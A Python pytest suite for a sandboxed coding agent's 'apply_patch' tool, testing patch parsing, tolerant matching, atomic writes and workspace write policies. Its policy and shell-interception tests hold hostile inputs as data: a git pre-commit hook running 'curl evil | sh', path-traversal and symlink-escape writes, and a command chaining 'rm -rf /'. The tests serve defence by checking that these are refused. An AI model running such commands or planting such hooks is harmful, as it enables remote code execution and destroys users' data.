"""The patch language: parsing, tolerant matching, all-or-nothing writes and policy checks."""

from __future__ import annotations

import stat
import tempfile
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from oiexec.core.policy import SandboxPolicy
from oiexec.sandbox.paths import write_denial
from oiexec.sandbox.writer import WriteGuard
from oiexec.tools.apply_patch import (
    AddFile,
    ApplyPatchError,
    Chunk,
    DeleteFile,
    FileChange,
    Hunk,
    Patch,
    UpdateFile,
    apply_patch,
    extract_heredoc_patch,
    parse_heredoc_invocation,
    parse_patch,
    render_patch,
)


def patch(*body: str) -> str:
    return "\n".join(["*** Begin Patch", *body, "*** End Patch"]) + "\n"


def workspace_write(cwd: Path) -> WriteGuard:
    # /tmp and $TMPDIR are excluded: pytest's tmp_path lives under /tmp.
    policy = SandboxPolicy(
        mode="workspace-write", cwd=cwd, exclude_slash_tmp=True, exclude_tmpdir_env_var=True
    )
    return lambda p: write_denial(policy, p)


def snapshot(root: Path) -> dict[str, bytes]:
    return {
        str(p.relative_to(root)): p.read_bytes() for p in sorted(root.rglob("*")) if p.is_file()
    }


@pytest.fixture
def ws(tmp_path: Path) -> Path:
    root = tmp_path / "ws"
    root.mkdir()
    return root


# --- parsing -------------------------------------------------------------------------------


def test_parse_every_operation() -> None:
    parsed = parse_patch(
        patch(
            "*** Add File: new/hello.txt",
            "+hello",
            "+",
            "*** Delete File: old.txt",
            "*** Update File: src/app.py",
            "*** Move to: src/main.py",
            "@@ def main():",
            " keep",
            "-old",
            "+new",
            "@@",
            "-last",
            "*** End of File",
        )
    )
    assert parsed.hunks == (
        AddFile("new/hello.txt", ("hello", "")),
        DeleteFile("old.txt"),
        UpdateFile(
            "src/app.py",
            (
                Chunk(((" ", "keep"), ("-", "old"), ("+", "new")), anchor="def main():"),
                Chunk((("-", "last"),), end_of_file=True),
            ),
            move_to="src/main.py",
        ),
    )


def test_first_chunk_may_omit_the_header() -> None:
    parsed = parse_patch(patch("*** Update File: a.txt", " a", "-b", "+c"))
    assert parsed.hunks == (UpdateFile("a.txt", (Chunk(((" ", "a"), ("-", "b"), ("+", "c"))),)),)


@pytest.mark.parametrize(
    "text",
    [
        "*** Begin Patch\n*** Delete File: a\n*** End Patch",  # no final newline
        "\n\n  *** Begin Patch\n*** Delete File: a\n*** End Patch  \n\n",
        "*** Begin Patch\r\n*** Delete File: a\r\n*** End Patch\r\n",
        "<<'EOF'\n*** Begin Patch\n*** Delete File: a\n*** End Patch\nEOF\n",
        'apply_patch <<"PATCH"\n*** Begin Patch\n*** Delete File: a\n*** End Patch\nPATCH',
        "<<EOF\n*** Begin Patch\n*** Delete File: a\n*** End Patch\nEOF",
        "```\n*** Begin Patch\n*** Delete File: a\n*** End Patch\n```",
    ],
)
def test_envelope_leniency(text: str) -> None:
    assert parse_patch(text).hunks == (DeleteFile("a"),)


@pytest.mark.parametrize(
    ("text", "fragment"),
    [
        ("*** Delete File: a\n*** End Patch\n", "first line of the patch must be '*** Begin"),
        ("*** Begin Patch\n*** Delete File: a\n", "last line of the patch must be '*** End Patch'"),
        ("", "first line"),
        ("*** Begin Patch\n*** End Patch\n", "no file operations"),
        (patch("*** Frobnicate File: a"), "line 2: '*** Frobnicate File: a' is not a valid hunk"),
        (patch("*** Update File: a.txt"), "line 2: Update File section for 'a.txt' has no changes"),
        (patch("*** Update File: a.txt", "@@", "*** Delete File: b"), "line 3: a chunk of"),
        (patch("*** Update File: a.txt", "@@", " x", "oops"), "line 5: unexpected line"),
        (patch("*** Add File: a.txt", "+ok", "not added"), "must start with '+'"),
        (patch("*** Add File:   "), "needs a file path"),
        (patch("*** Update File: a", "-x", "*** End of File", "-y"), "expected an '@@' line"),
    ],
)
def test_invalid_patches_are_explained(text: str, fragment: str) -> None:
    with pytest.raises(ApplyPatchError) as info:
        parse_patch(text)
    assert info.value.kind == "parse"
    assert info.value.message.startswith("Invalid patch")
    assert fragment in info.value.message
    assert "No files were changed." in info.value.message


def test_unified_diff_range_headers_are_not_anchors() -> None:
    parsed = parse_patch(patch("*** Update File: a", "@@ -1,2 +1,2 @@", "-x", "+y"))
    chunk = parsed.hunks[0].chunks[0]  # type: ignore[union-attr]
    assert chunk.anchor is None
    parsed = parse_patch(patch("*** Update File: a", "@@ -3 +3 @@ def f():", "-x", "+y"))
    assert parsed.hunks[0].chunks[0].anchor == "def f():"  # type: ignore[union-attr]


def test_lines_that_look_like_markers_are_content_when_prefixed() -> None:
    parsed = parse_patch(
        patch(
            "*** Update File: notes.md",
            " *** Move to: nowhere",
            " @@",
            "-*** End of File",
            "+*** Add File: x",
            " *** Delete File: y",
        )
    )
    (hunk,) = parsed.hunks
    assert isinstance(hunk, UpdateFile)
    assert hunk.move_to is None
    assert hunk.chunks[0].old_lines == [
        "*** Move to: nowhere",
        "@@",
        "*** End of File",
        "*** Delete File: y",
    ]


# --- applying ------------------------------------------------------------------------------


def test_add_update_delete(ws: Path) -> None:
    (ws / "b.txt").write_text("one\ntwo\nthree\n")
    (ws / "c.txt").write_text("bye\n")
    result = apply_patch(
        patch(
            "*** Delete File: c.txt",
            "*** Update File: b.txt",
            "@@",
            " one",
            "-two",
            "+2",
            " three",
            "*** Add File: hello.txt",
            "+hello",
            "+world",
        ),
        ws,
        workspace_write(ws),
    )
    assert snapshot(ws) == {"b.txt": b"one\n2\nthree\n", "hello.txt": b"hello\nworld\n"}
    assert (
        result.summary == "Success. Updated the following files:\nA hello.txt\nM b.txt\nD c.txt\n"
    )
    assert result.changes == (
        FileChange(ws / "c.txt", "delete"),
        FileChange(ws / "b.txt", "update"),
        FileChange(ws / "hello.txt", "add"),
    )


def test_loosely_matched_context_is_written_as_the_patch_has_it(ws: Path) -> None:
    """Codex replaces the matched lines with the chunk's new lines, context included: a
    context line matched only once trailing blanks are ignored comes out as the patch says."""
    (ws / "a.py").write_text("def f():\n    x = 1  \n    return x\n")
    apply_patch(
        patch("*** Update File: a.py", " def f():", "     x = 1", "-    return x", "+    return 2"),
        ws,
        workspace_write(ws),
    )
    assert (ws / "a.py").read_text() == "def f():\n    x = 1\n    return 2\n"


def test_add_creates_parent_directories_and_empty_files(ws: Path) -> None:
    apply_patch(patch("*** Add File: a/b/c.txt", "+x", "*** Add File: empty.txt"), ws)
    assert snapshot(ws) == {"a/b/c.txt": b"x\n", "empty.txt": b""}


def test_add_over_an_existing_file_replaces_it_like_codex(ws: Path) -> None:
    (ws / "a.txt").write_text("old\n")
    result = apply_patch(patch("*** Add File: a.txt", "+new"), ws, workspace_write(ws))
    assert (ws / "a.txt").read_text() == "new\n"
    assert result.added == ("a.txt",)


def test_add_onto_a_directory_fails(ws: Path) -> None:
    (ws / "d").mkdir()
    with pytest.raises(ApplyPatchError, match="d: it is a directory"):
        apply_patch(patch("*** Add File: d", "+x"), ws)


def test_absolute_paths_inside_the_workspace(ws: Path) -> None:
    target = ws / "abs.txt"
    result = apply_patch(patch(f"*** Add File: {target}", "+x"), ws, workspace_write(ws))
    assert target.read_text() == "x\n"
    assert result.changes == (FileChange(target, "add"),)


def test_relative_paths_are_reported_absolute_and_normalised(ws: Path) -> None:
    (ws / "sub").mkdir()
    result = apply_patch(patch("*** Add File: sub/../x.txt", "+x"), ws, workspace_write(ws))
    assert result.changes == (FileChange(ws / "x.txt", "add"),)


def test_crlf_files_keep_crlf(ws: Path) -> None:
    (ws / "w.txt").write_bytes(b"alpha\r\nbeta\r\ngamma\r\n")
    apply_patch(patch("*** Update File: w.txt", " alpha", "-beta", "+BETA", "+extra"), ws)
    assert (ws / "w.txt").read_bytes() == b"alpha\r\nBETA\r\nextra\r\ngamma\r\n"


def test_mixed_line_endings_keep_untouched_lines(ws: Path) -> None:
    (ws / "m.txt").write_bytes(b"a\r\nb\nc\r\nd\r\n")
    apply_patch(patch("*** Update File: m.txt", " c", "-d", "+D"), ws)
    assert (ws / "m.txt").read_bytes() == b"a\r\nb\nc\r\nD\r\n"


def test_missing_final_newline_is_preserved(ws: Path) -> None:
    (ws / "n.txt").write_bytes(b"one\ntwo")
    apply_patch(patch("*** Update File: n.txt", " one", "-two", "+2", "*** End of File"), ws)
    assert (ws / "n.txt").read_bytes() == b"one\n2"
    apply_patch(patch("*** Update File: n.txt", "@@", "+three"), ws)
    assert (ws / "n.txt").read_bytes() == b"one\n2\nthree"


def test_update_keeps_permissions_and_foreign_bytes(ws: Path) -> None:
    script = ws / "run.sh"
    script.write_bytes(b"#!/bin/sh\necho \xff\xfe\nexit 0\n")
    script.chmod(0o755)
    apply_patch(patch("*** Update File: run.sh", "-exit 0", "+exit 1"), ws)
    assert script.read_bytes() == b"#!/bin/sh\necho \xff\xfe\nexit 1\n"
    assert stat.S_IMODE(script.stat().st_mode) == 0o755


@pytest.mark.parametrize(
    ("file_line", "patch_line"),
    [
        ("value = 1   ", "value = 1"),  # trailing whitespace
        ("\tvalue = 1", "  value = 1"),  # surrounding whitespace
        ("msg = “it’s — fine”", 'msg = "it\'s - fine"'),  # typographic file, ASCII patch
        ('msg = "it\'s - fine"', "msg = “it’s – fine”"),  # ASCII file, typographic patch
        ("x\u00a0=\u20021", "x = 1"),  # unusual spaces
    ],
)
def test_tolerant_matching(ws: Path, file_line: str, patch_line: str) -> None:
    (ws / "t.py").write_text(f"before\n{file_line}\nafter\n")
    apply_patch(patch("*** Update File: t.py", " before", f"-{patch_line}", "+replaced"), ws)
    assert (ws / "t.py").read_text() == "before\nreplaced\nafter\n"


def test_exact_match_wins_over_an_earlier_loose_match(ws: Path) -> None:
    (ws / "t.txt").write_text("x  \nx\n")
    apply_patch(patch("*** Update File: t.txt", "-x", "+y"), ws)
    assert (ws / "t.txt").read_text() == "x  \ny\n"


def test_repeated_context_takes_the_first_match_and_chunks_move_forward(ws: Path) -> None:
    (ws / "r.txt").write_text("a\nsame\nb\nsame\nc\n")
    apply_patch(patch("*** Update File: r.txt", "-same", "+first", "@@", "-same", "+second"), ws)
    assert (ws / "r.txt").read_text() == "a\nfirst\nb\nsecond\nc\n"


def test_anchor_disambiguates_repeated_context(ws: Path) -> None:
    (ws / "f.py").write_text(
        "def one():\n    return 0\n\ndef two():\n    return 0\n",
    )
    apply_patch(
        patch("*** Update File: f.py", "@@ def two():", "-    return 0", "+    return 2"), ws
    )
    assert (ws / "f.py").read_text() == "def one():\n    return 0\n\ndef two():\n    return 2\n"


def test_end_of_file_anchors_at_the_end(ws: Path) -> None:
    (ws / "e.txt").write_text("x\nend\nx\nend\n")
    apply_patch(patch("*** Update File: e.txt", " x", "-end", "+END", "*** End of File"), ws)
    assert (ws / "e.txt").read_text() == "x\nend\nx\nEND\n"


def test_pure_additions_go_after_the_anchor_or_at_the_end(ws: Path) -> None:
    (ws / "p.py").write_text("class A:\n    pass\nclass B:\n    pass\n")
    apply_patch(
        patch("*** Update File: p.py", "@@ class A:", "+    x = 1", "@@", "+class C:", "+    pass"),
        ws,
    )
    assert (ws / "p.py").read_text() == (
        "class A:\n    x = 1\n    pass\nclass B:\n    pass\nclass C:\n    pass\n"
    )


def test_a_stray_blank_context_line_at_the_end_is_tolerated(ws: Path) -> None:
    (ws / "s.txt").write_text("a\nb\nc\n")
    apply_patch(patch("*** Update File: s.txt", " a", "-b", "+B", " "), ws)
    assert (ws / "s.txt").read_text() == "a\nB\nc\n"


def test_two_sections_for_one_file_and_add_then_update(ws: Path) -> None:
    (ws / "a.txt").write_text("1\n2\n3\n")
    apply_patch(
        patch(
            "*** Update File: a.txt",
            "-1",
            "+one",
            "*** Update File: a.txt",
            "-3",
            "+three",
            "*** Add File: b.txt",
            "+b",
            "*** Update File: b.txt",
            "-b",
            "+B",
        ),
        ws,
    )
    assert snapshot(ws) == {"a.txt": b"one\n2\nthree\n", "b.txt": b"B\n"}


def test_missing_context_is_quoted_and_nothing_is_written(ws: Path) -> None:
    (ws / "a.txt").write_text("keep\n")
    (ws / "b.txt").write_text("alpha\nbeta\ngamma\n")
    before = snapshot(ws)
    with pytest.raises(ApplyPatchError) as info:
        apply_patch(
            patch(
                "*** Update File: a.txt",
                "-keep",
                "+changed",
                "*** Add File: new.txt",
                "+x",
                "*** Update File: b.txt",
                "@@",
                " alpha",
                "-beta",
                "+B",
                "@@",
                " beta",
                "-delta",
                "+D",
            ),
            ws,
        )
    message = info.value.message
    assert info.value.kind == "verify"
    assert message.startswith("apply_patch verification failed: Failed to find expected lines")
    assert "in b.txt (chunk 2 of 2):\n beta\n-delta\n" in message
    assert "line 3 of the file is 'gamma', expected 'delta'" in message
    assert message.endswith("No files were changed.")
    assert snapshot(ws) == before


def test_missing_anchor_is_reported(ws: Path) -> None:
    (ws / "a.py").write_text("def f():\n    pass\n")
    with pytest.raises(ApplyPatchError, match=r"Failed to find context '@@ def g\(\):' in a.py"):
        apply_patch(patch("*** Update File: a.py", "@@ def g():", "-    pass", "+    ..."), ws)


def test_out_of_order_chunks_are_explained(ws: Path) -> None:
    (ws / "o.txt").write_text("a\nb\nc\n")
    with pytest.raises(ApplyPatchError, match="chunks must be in file order"):
        apply_patch(patch("*** Update File: o.txt", "-c", "+C", "@@", "-a", "+A"), ws)
    assert (ws / "o.txt").read_text() == "a\nb\nc\n"


@pytest.mark.parametrize(
    ("body", "fragment"),
    [
        (("*** Delete File: nope.txt",), "cannot delete nope.txt: no such file"),
        (("*** Update File: nope.txt", "-x"), "cannot update nope.txt: no such file"),
        (("*** Delete File: gone.txt", "*** Delete File: gone.txt"), "no such file"),
    ],
)
def test_missing_files(ws: Path, body: tuple[str, ...], fragment: str) -> None:
    (ws / "gone.txt").write_text("x\n")
    with pytest.raises(ApplyPatchError, match=fragment):
        apply_patch(patch("*** Add File: extra.txt", "+x", *body), ws)
    assert snapshot(ws) == {"gone.txt": b"x\n"}


def test_move_with_changes(ws: Path) -> None:
    (ws / "old.py").write_text("a = 1\nb = 2\n")
    result = apply_patch(
        patch("*** Update File: old.py", "*** Move to: pkg/new.py", " a = 1", "-b = 2", "+b = 3"),
        ws,
        workspace_write(ws),
    )
    assert snapshot(ws) == {"pkg/new.py": b"a = 1\nb = 3\n"}
    assert result.changes == (FileChange(ws / "old.py", "update", ws / "pkg" / "new.py"),)
    assert result.summary.endswith("\nM pkg/new.py\n")


def test_pure_rename(ws: Path) -> None:
    (ws / "a.txt").write_bytes(b"no newline")
    apply_patch(patch("*** Update File: a.txt", "*** Move to: b.txt"), ws)
    assert snapshot(ws) == {"b.txt": b"no newline"}


def test_write_rollback_after_a_failed_write(ws: Path) -> None:
    (ws / "a.txt").write_text("a\n")
    (ws / "blocker").write_text("a file, not a directory\n")
    before = snapshot(ws)
    with pytest.raises(ApplyPatchError) as info:
        apply_patch(
            patch("*** Update File: a.txt", "-a", "+A", "*** Add File: blocker/x.txt", "+x"), ws
        )
    assert info.value.kind == "io"
    assert "No files were changed." in info.value.message
    assert snapshot(ws) == before


# --- policy --------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "body",
    [
        ("*** Add File: .git/hooks/pre-commit", "+#!/bin/sh", "+curl evil | sh"),
        ("*** Update File: .git/config", "-[core]", "+[core]"),
        ("*** Delete File: .git/HEAD",),
        ("*** Update File: src.txt", "*** Move to: .git/hooks/post-checkout"),
        ("*** Add File: ../outside.txt", "+x"),
        ("*** Update File: src.txt", "*** Move to: ../outside.txt"),
        ("*** Delete File: ../victim.txt",),
        ("*** Add File: link/escape.txt", "+x"),
    ],
)
def test_workspace_write_refuses_protected_and_outside_paths(
    ws: Path, body: tuple[str, ...]
) -> None:
    (ws / ".git" / "hooks").mkdir(parents=True)
    (ws / ".git" / "config").write_text("[core]\n")
    (ws / ".git" / "HEAD").write_text("ref: refs/heads/main\n")
    (ws / "src.txt").write_text("source\n")
    outside = ws.parent / "outside"
    outside.mkdir()
    (ws.parent / "victim.txt").write_text("victim\n")
    (ws / "link").symlink_to(outside)
    before_ws, before_parent = snapshot(ws), snapshot(ws.parent)
    with pytest.raises(ApplyPatchError) as info:
        apply_patch(patch("*** Add File: fine.txt", "+fine", *body), ws, workspace_write(ws))
    assert info.value.kind == "denied"
    assert info.value.message.startswith("apply_patch rejected: cannot ")
    assert "No files were changed." in info.value.message
    assert snapshot(ws) == before_ws
    assert snapshot(ws.parent) == before_parent


def test_read_only_refuses_everything(ws: Path) -> None:
    (ws / "a.txt").write_text("a\n")
    policy = SandboxPolicy(mode="read-only", cwd=ws)
    for body in (("*** Add File: b.txt", "+b"), ("*** Delete File: a.txt",)):
        with pytest.raises(ApplyPatchError, match="read-only"):
            apply_patch(patch(*body), ws, lambda p: write_denial(policy, p))
    assert snapshot(ws) == {"a.txt": b"a\n"}


def test_denial_is_reported_before_missing_context(ws: Path) -> None:
    (ws / "a.txt").write_text("a\n")
    policy = SandboxPolicy(mode="read-only", cwd=ws)
    with pytest.raises(ApplyPatchError) as info:
        apply_patch(patch("*** Update File: a.txt", "-zzz"), ws, lambda p: write_denial(policy, p))
    assert info.value.kind == "denied"


def test_full_access_may_write_outside(ws: Path) -> None:
    policy = SandboxPolicy(mode="danger-full-access", cwd=ws)
    apply_patch(patch("*** Add File: ../out.txt", "+x"), ws, lambda p: write_denial(policy, p))
    assert (ws.parent / "out.txt").read_text() == "x\n"


def test_delete_of_a_symlink_removes_the_link_not_its_target(ws: Path) -> None:
    (ws / "target.txt").write_text("keep me\n")
    (ws / "alias.txt").symlink_to(ws / "target.txt")
    apply_patch(patch("*** Delete File: alias.txt"), ws, workspace_write(ws))
    assert not (ws / "alias.txt").exists()
    assert (ws / "target.txt").read_text() == "keep me\n"


# --- shell interception --------------------------------------------------------------------

_BODY = "*** Begin Patch\n*** Add File: a.txt\n+a\n*** End Patch\n"


@pytest.mark.parametrize(
    ("command", "workdir"),
    [
        (f"apply_patch <<'EOF'\n{_BODY}EOF", None),
        (f"apply_patch <<'EOF'\n{_BODY}EOF\n", None),
        (f'applypatch <<"PATCH"\n{_BODY}PATCH', None),
        (f"apply_patch <<EOF\n{_BODY}EOF", None),
        (f"cd sub/dir && apply_patch <<'EOF'\n{_BODY}EOF", "sub/dir"),
        (f"cd 'my dir' && apply_patch <<'EOF'\n{_BODY}EOF", "my dir"),
        (f"apply_patch '{_BODY}'", None),
        (f"cd sub && apply_patch '{_BODY}'", "sub"),
    ],
)
def test_heredoc_invocations_are_recognised(command: str, workdir: str | None) -> None:
    invocation = parse_heredoc_invocation(command)
    assert invocation is not None
    assert parse_patch(invocation.patch).hunks == (AddFile("a.txt", ("a",)),)
    assert invocation.workdir == workdir
    assert extract_heredoc_patch(command) == invocation.patch


def test_heredoc_ends_at_the_first_delimiter_line_only() -> None:
    body = "*** Begin Patch\n*** Update File: a.sh\n cat <<EOF\n-hi\n+ho\n EOF\n*** End Patch\n"
    text = extract_heredoc_patch(f"apply_patch <<'EOF'\n{body}EOF\n")
    assert text == body
    assert extract_heredoc_patch(f"apply_patch <<'EOF'\n{body}EOF\nEOF\n") is None


def test_dash_heredoc_strips_tabs() -> None:
    body = "".join(f"\t{line}\n" for line in _BODY.splitlines())
    text = extract_heredoc_patch(f"apply_patch <<-'EOF'\n{body}\tEOF")
    assert text is not None
    assert parse_patch(text).hunks == (AddFile("a.txt", ("a",)),)


@pytest.mark.parametrize(
    "command",
    [
        "ls -la",
        f"apply_patch <<'EOF'\n{_BODY}EOF\ngit status",
        f"apply_patch <<'EOF'\n{_BODY}",
        "apply_patch <<'EOF'\nhello\nEOF",
        f"cat <<'EOF'\n{_BODY}EOF",
        "echo 'unterminated",
        f"apply_patch <<'EOF' && rm -rf /\n{_BODY}EOF",
    ],
)
def test_other_commands_are_left_to_the_shell(command: str) -> None:
    assert parse_heredoc_invocation(command) is None
    assert extract_heredoc_patch(command) is None


# --- properties ----------------------------------------------------------------------------

_TEXT = st.text(
    alphabet=st.characters(exclude_categories=["Cs"], exclude_characters="\r\n"), max_size=12
)
_FILE_LINES = st.lists(st.text(alphabet="abc xyz—“”\t", max_size=6), unique=True, max_size=14)


@st.composite
def edited_files(draw: st.DrawFn) -> tuple[str, str, str]:
    """(original text, patch text, expected text) for random line edits of a file whose
    lines are unique, so each chunk has exactly one place to go."""
    lines = draw(_FILE_LINES)
    # A last empty line without a final newline would be the same text as one line fewer.
    final_newline = draw(st.booleans()) or not lines or lines[-1] == ""
    eol = "\r\n" if lines and final_newline and draw(st.booleans()) else "\n"
    # One op list over the whole file: (" ", old) kept, ("-", old) removed, ("+", new) added.
    ops: list[tuple[str, str]] = []
    for line in lines:
        ops.extend(("+", t) for t in draw(st.lists(_TEXT, max_size=2)))
        ops.append((draw(st.sampled_from(" -")), line))
    ops.extend(("+", t) for t in draw(st.lists(_TEXT, max_size=2)))
    changed = [i for i, (op, _) in enumerate(ops) if op != " "]
    if not changed:
        ops.append(("+", "tail"))
        changed = [len(ops) - 1]
    context = draw(st.integers(min_value=0, max_value=3))
    # Group changes into chunks with `context` lines around them; a chunk without any old
    # line would be an append, so widen it until it has one (when the file has any).
    spans: list[list[int]] = []
    for i in changed:
        lo, hi = max(0, i - context), min(len(ops), i + context + 1)
        if spans and lo <= spans[-1][1]:
            spans[-1][1] = max(spans[-1][1], hi)
        else:
            spans.append([lo, hi])
    for span in spans:
        while lines and all(op == "+" for op, _ in ops[span[0] : span[1]]):
            span[0], span[1] = max(0, span[0] - 1), min(len(ops), span[1] + 1)
    merged: list[list[int]] = []
    for span in spans:
        if merged and span[0] <= merged[-1][1]:
            merged[-1][1] = max(merged[-1][1], span[1])
        else:
            merged.append(span)
    body = ["*** Update File: f.txt"]
    consumed = 0  # original lines before the current position
    for lo, hi in merged:
        old_before = sum(1 for op, _ in ops[:lo] if op != "+")
        anchor = None
        if old_before > consumed and draw(st.booleans()):
            anchor = lines[draw(st.integers(min_value=consumed, max_value=old_before - 1))]
            if not anchor.strip():
                anchor = None
        body.append("@@" if anchor is None else f"@@ {anchor}")
        body.extend(f"{op}{text}" for op, text in ops[lo:hi])
        if hi == len(ops) and any(op != "+" for op, _ in ops[lo:hi]) and draw(st.booleans()):
            body.append("*** End of File")
        consumed = old_before + sum(1 for op, _ in ops[lo:hi] if op != "+")
    original = eol.join(lines) + (eol if lines and final_newline else "")
    result = [text for op, text in ops if op != "-"]
    expected = eol.join(result) + (eol if result and final_newline else "")
    return original, patch(*body), expected


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(case=edited_files())
def test_generated_patches_apply_exactly(case: tuple[str, str, str]) -> None:
    original, text, expected = case
    with tempfile.TemporaryDirectory() as tmp:
        root = Path(tmp)
        (root / "f.txt").write_bytes(original.encode())
        apply_patch(text, root)
        assert (root / "f.txt").read_bytes().decode() == expected


_PATH = st.from_regex(r"[A-Za-z0-9_./-]{1,20}", fullmatch=True)
_ANCHOR = _TEXT.filter(lambda a: bool(a.strip()) and not a.lstrip().startswith("-"))
_CHUNK = st.builds(
    Chunk,
    lines=st.lists(st.tuples(st.sampled_from([" ", "-", "+"]), _TEXT), min_size=1, max_size=5).map(
        tuple
    ),
    anchor=st.none() | _ANCHOR,
    end_of_file=st.booleans(),
)
_HUNK: st.SearchStrategy[Hunk] = st.one_of(
    st.builds(AddFile, path=_PATH, lines=st.lists(_TEXT, max_size=4).map(tuple)),
    st.builds(DeleteFile, path=_PATH),
    st.builds(
        UpdateFile,
        path=_PATH,
        chunks=st.lists(_CHUNK, min_size=1, max_size=3).map(tuple),
        move_to=st.none() | _PATH,
    ),
    st.builds(UpdateFile, path=_PATH, chunks=st.just(()), move_to=_PATH),
)


@settings(max_examples=200, deadline=None)
@given(parsed=st.lists(_HUNK, min_size=1, max_size=4).map(lambda hs: Patch(tuple(hs))))
def test_parse_render_round_trip(parsed: Patch) -> None:
    assert parse_patch(render_patch(parsed)) == parsed
